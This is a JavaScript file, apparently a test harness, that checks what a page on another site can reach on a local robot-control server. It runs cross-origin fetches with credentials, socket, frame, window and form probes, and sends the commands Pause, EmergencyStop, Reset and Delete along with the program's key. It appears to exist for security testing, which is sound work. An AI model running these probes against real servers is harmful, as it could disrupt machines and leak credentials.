// What a page of another site tries with a server: `attack(base, paths, protocol, keys)` returns what it got, by what it tried.
// "" stands for nothing at all; everything else was read, or ran.

const PATIENCE = 4000; // ms
const COMMANDS = ["Pause", "EmergencyStop", "Reset", "Delete"];

function within(promise, otherwise = "") {
  const late = new Promise((resolve) => setTimeout(() => resolve(otherwise), PATIENCE));
  return Promise.race([promise.catch(() => ""), late]);
}

const readable = (answer) => (answer.type === "opaque" || answer.type === "opaqueredirect" ? "" : answer.text());

// An element that names an address: whether it was loaded.
function element(tag, attributes) {
  return within(new Promise((resolve) => {
    const made = Object.assign(document.createElement(tag), attributes);
    made.addEventListener("load", () => resolve("loaded"));
    made.addEventListener("error", () => resolve(""));
    document.head.append(made);
  }));
}

// What a page that is shown here, or in a window, lets this one see.
function seen(shown) {
  try {
    return shown.document.documentElement.outerHTML;
  } catch {
    return shown.length ? `it has ${shown.length} frames` : "";
  }
}

async function framed(address) {
  const frame = document.createElement("iframe");
  const there = new Promise((resolve) => frame.addEventListener("load", resolve));
  frame.src = address;
  document.body.append(frame);
  await within(there);
  await new Promise((resolve) => setTimeout(resolve, 300));
  for (const command of COMMANDS) frame.contentWindow.postMessage({ do: command, robot: "robot_1" }, "*");
  for (const command of COMMANDS) frame.contentWindow.postMessage(JSON.stringify({ do: command, robot: "robot_1" }), "*");
  return seen(frame.contentWindow);
}

function isLoading(shown) {
  try {
    return shown.location.href === "about:blank" || shown.document.readyState !== "complete";
  } catch {
    return false;
  }
}

async function windowed(address) {
  const shown = window.open(address);
  if (!shown) return "";
  for (let left = 30; left && !shown.closed && isLoading(shown); left--) await new Promise((resolve) => setTimeout(resolve, 100));
  if (shown.closed || isLoading(shown)) return "";
  for (const command of COMMANDS) shown.postMessage({ do: command, robot: "robot_1" }, "*");
  const found = seen(shown);
  shown.close();
  return found;
}

function socket(address, protocols) {
  return within(new Promise((resolve) => {
    const made = new WebSocket(address, protocols);
    made.onopen = () => {
      for (const command of COMMANDS) made.send(JSON.stringify({ do: command, robot: "robot_1" }));
      resolve("open");
    };
    made.onmessage = ({ data }) => resolve(String(data));
    made.onerror = () => resolve("");
  }));
}

function events(address) {
  return within(new Promise((resolve) => {
    const made = new EventSource(address, { withCredentials: true });
    made.onopen = () => resolve("open");
    made.onerror = () => {
      made.close();
      resolve("");
    };
  }));
}

function worker(address, Kind) {
  return within(new Promise((resolve) => {
    const made = new Kind(address); // raises where it is another site's
    made.onerror = () => resolve("");
    if (made.port) made.port.onmessage = () => resolve("ran");
    else made.onmessage = () => resolve("ran");
  }));
}

// Sends a form into a frame of this page.
async function form(address, fields) {
  const name = `form${Math.random()}`;
  const frame = Object.assign(document.createElement("iframe"), { name });
  document.body.append(frame);
  const made = Object.assign(document.createElement("form"), { action: address, method: "POST", target: name, enctype: "text/plain" });
  for (const [key, value] of Object.entries(fields)) made.append(Object.assign(document.createElement("input"), { name: key, value }));
  document.body.append(made);
  const there = new Promise((resolve) => frame.addEventListener("load", resolve));
  made.submit();
  await within(there);
  await new Promise((resolve) => setTimeout(resolve, 300));
  return seen(frame.contentWindow);
}

// `base` is http://HOST:PORT; `paths` are folders that may be there, such as the token's; `key` is the program's.
async function attack(base, paths, protocol, key) {
  const tried = {};
  const all = [];
  const found = (what, promise) => all.push(within(promise).then((text) => (tried[what] = text)));
  const ws = base.replace("http", "ws");
  for (const path of paths) {
    const at = base + path;
    for (const mode of ["cors", "no-cors", "same-origin"]) {
      found(`fetch ${mode} ${path}`, fetch(at, { mode, credentials: "include" }).then(readable));
      found(`post ${mode} ${path}`, fetch(at, { mode, method: "POST", body: key, credentials: "include" }).then(readable));
    }
    found(`file ${path}`, fetch(`${at}page.js`).then(readable));
    found(`script ${path}`, element("script", { src: `${at}page.js` }));
    found(`module ${path}`, import(`${at}page.js`).then(() => "ran"));
    found(`style ${path}`, element("link", { rel: "stylesheet", href: `${at}page.css` }));
    found(`picture ${path}`, element("img", { src: `${at}icon.svg` }));
    found(`events ${path}`, events(`${at}socket`));
    found(`worker ${path}`, worker(`${at}page.js`, Worker));
    found(`shared worker ${path}`, worker(`${at}page.js`, SharedWorker));
    found(`service worker ${path}`, navigator.serviceWorker?.register(`${at}page.js`).then(() => "registered") ?? Promise.resolve(""));
    found(`socket ${path}`, socket(`${ws}${path}socket`, protocol));
    found(`scene's socket ${path}`, socket(`${ws}${path}scene/socket`, protocol));
    found(`port's socket ${path}`, socket(`${ws}${path}`, protocol));
    found(`frame ${path}`, framed(at));
    found(`window ${path}`, windowed(at));
    found(`form ${path}`, form(at, { [key]: "" }));
    navigator.sendBeacon(at, key);
  }
  await Promise.all(all);
  return tried;
}
